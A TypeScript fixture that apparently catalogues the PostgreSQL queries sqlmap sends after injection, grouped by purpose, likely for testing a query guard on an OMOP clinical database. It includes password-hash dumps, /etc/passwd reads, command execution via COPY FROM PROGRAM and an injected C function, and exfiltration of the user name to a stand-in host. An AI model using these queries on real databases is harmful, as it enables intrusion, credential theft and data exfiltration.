const where = (text: string): string => `SELECT person_id FROM omop.person WHERE ${text}`;
const set = (text: string): string => `SELECT person_id FROM omop.person UNION ${text}`;
const inside = (text: string): readonly string[] => [where(`EXISTS (${text})`), set(text), text];

/**
 * What sqlmap asks PostgreSQL for once it is in, by purpose, in our own forms: every purpose of its list of queries for
 * PostgreSQL, of its steps for files, functions, commands and name servers, and of its finding out the version.
 */
export const sqlmapQueries: Readonly<Record<string, readonly string[]>> = {
  // How a value is made readable, cut and compared.
  'a value as text': [
    where("CAST(year_of_birth AS text) = '1950'"),
    where("CAST(year_of_birth AS varchar(10000)) = '1950'"),
  ],
  'the length of a value': [where("length('abc') = 3"), where('char_length(gender_source_value) > 0')],
  'a value or a blank': [where("coalesce(year_of_birth::text, ' ') = ' '")],
  'values put together': [where("'a' || 'b' = 'ab'"), where("chr(97) || chr(98) = 'ab'")],
  'a part of a value': [where("substring('abc' FROM 1 FOR 1) = 'a'"), where("substr('abc', 1, 1) = 'a'")],
  'one letter after another': [where('ascii(substring((SELECT version())::text FROM 1 FOR 1)) > 64')],
  'a value in hexadecimal': [where("encode(convert_to('a', 'UTF8'), 'hex') = '61'")],
  'a condition as a letter': [...inside("SELECT (CASE WHEN (5 = 5) THEN '1' ELSE '0' END)")],
  'one row after another': [
    'SELECT person_id FROM omop.person ORDER BY person_id ASC OFFSET 3 LIMIT 1',
    where('year_of_birth = (SELECT min(p.year_of_birth) FROM omop.person AS p WHERE p.year_of_birth > 1950)'),
    where('year_of_birth = (SELECT p.year_of_birth FROM omop.person AS p ORDER BY p.year_of_birth OFFSET 3 LIMIT 1)'),
    'SELECT min(person_id) AS person_id FROM omop.person',
  ],
  'how many rows': [...inside('SELECT count(*) FROM omop.person'), where('(SELECT count(*) FROM omop.note) > 10')],
  // What the server tells of itself.
  'the banner': [where("version() = 'x'"), where("current_setting('server_version') = '15'")],
  'who is asking': [where("CURRENT_USER = 'x'"), where("current_user::text = 'x'"), where("getpgusername() = 'x'")],
  'where one is': [
    where("current_schema() = 'x'"),
    where("current_database() = 'x'"),
    where('inet_server_addr() IS NULL'),
  ],
  'whether one is the master': inside('SELECT usesuper FROM pg_user WHERE usename = CURRENT_USER LIMIT 1'),
  'whether a function is there': inside("SELECT proname = 'sys_eval' FROM pg_proc WHERE proname = 'sys_eval' LIMIT 1"),
  'users, passwords and privileges': [
    'SELECT usename FROM pg_user',
    'SELECT DISTINCT (usename) FROM pg_user ORDER BY usename OFFSET 1 LIMIT 1',
    'SELECT usename, passwd FROM pg_shadow',
    'SELECT rolpassword FROM pg_authid',
    'SELECT (CASE WHEN usecreatedb THEN 1 ELSE 0 END) FROM pg_user',
    'SELECT count(DISTINCT (usename)) FROM pg_user',
  ].flatMap(inside),
  'statements of others': inside("SELECT query FROM pg_stat_activity WHERE query <> '<IDLE>'"),
  'the text of procedures': inside(
    'SELECT n.nspname, p.prosrc FROM pg_proc AS p JOIN pg_namespace AS n ON n.oid = p.pronamespace',
  ),
  'schemas, tables and columns': [
    'SELECT DISTINCT (schemaname) FROM pg_tables',
    'SELECT table_name FROM information_schema.tables',
    'SELECT a.attname FROM pg_attribute AS a JOIN pg_class AS c ON c.oid = a.attrelid WHERE a.attnum > 0',
    'SELECT k.column_name FROM information_schema.key_column_usage AS k',
    "SELECT relname FROM pg_class WHERE relname LIKE '%pass%'",
  ].flatMap(inside),
  'comments of tables and columns': [
    'SELECT d.description FROM pg_description AS d',
    "SELECT obj_description('omop.person'::regclass)",
    "SELECT col_description('omop.person'::regclass, 1)",
  ].flatMap(inside),
  'all of a table': [...inside('SELECT * FROM omop.note'), ...inside('SELECT n.note_text FROM omop.note AS n')],
  // Which version it is.
  'what only some versions know': [
    "length(to_char(1, 'EEEE')) > 0",
    '2 = div(6, 3)',
    'EXTRACT(ISODOW FROM CURRENT_TIMESTAMP) < 8',
    'isfinite(transaction_timestamp())',
    '3 = width_bucket(5.35, 0.024, 10.06, 5)',
    "substr(md5('a'), 1, 1) = '0'",
    "bit_length('a') = 8",
    "quote_literal('a') = 'a'",
    'power(2, 3) = 8',
    "'a' = (SELECT max('a') FROM omop.concept)",
    "'5'::int = 5",
    '5 = coalesce(5, NULL)',
    'gen_random_uuid() IS NOT NULL',
    "sha256('a') IS NOT NULL",
    "jsonb_path_exists('{}', '$')",
  ].map(where),
  // Files, functions, commands and names of the outside.
  files: [
    "COPY t(a) FROM '/etc/passwd'",
    "CREATE TABLE t (a text); COPY t(a) FROM '\\\\\\\\host\\\\share'",
    "SELECT lo_import('/etc/passwd')",
    'SELECT lo_unlink(42)',
    'SELECT lo_create(42)',
    "INSERT INTO pg_largeobject VALUES (42, 0, decode('AA==', 'base64'))",
    "UPDATE pg_largeobject SET data = decode('AA==', 'base64') WHERE loid = 42",
    "SELECT lo_export(42, '/tmp/x')",
    "SELECT lo_put(42, 0, '\\x00')",
    "SELECT sys_fileread('/etc/passwd')",
    'SELECT data FROM pg_largeobject',
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_ls_dir('/')",
  ].flatMap((text) => [text, `SELECT person_id FROM omop.person; ${text}`]),
  'functions and commands': [
    'DROP FUNCTION sys_eval(text)',
    "CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '/tmp/lib.so', 'sys_eval' LANGUAGE c IMMUTABLE",
    "SELECT sys_eval('id')",
    "COPY t FROM PROGRAM 'id'",
    'CREATE LANGUAGE plpythonu',
    "LOAD '/tmp/lib.so'",
  ].flatMap((text) => [text, `SELECT person_id FROM omop.person; ${text}`]),
  'names of the outside': [
    "CREATE FUNCTION tell() RETURNS void AS $$ BEGIN EXECUTE 'COPY t FROM ''//' || current_user || '.example/a'''; END $$ LANGUAGE plpgsql SECURITY DEFINER",
    "SELECT dblink_connect('host=a.example user=b')",
    "SELECT * FROM dblink('host=a.example', 'SELECT 1') AS t (a int)",
    "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'a.example')",
    "CREATE SUBSCRIPTION s CONNECTION 'host=a.example' PUBLICATION p",
  ].flatMap((text) => [text, `SELECT person_id FROM omop.person; ${text}`]),
};
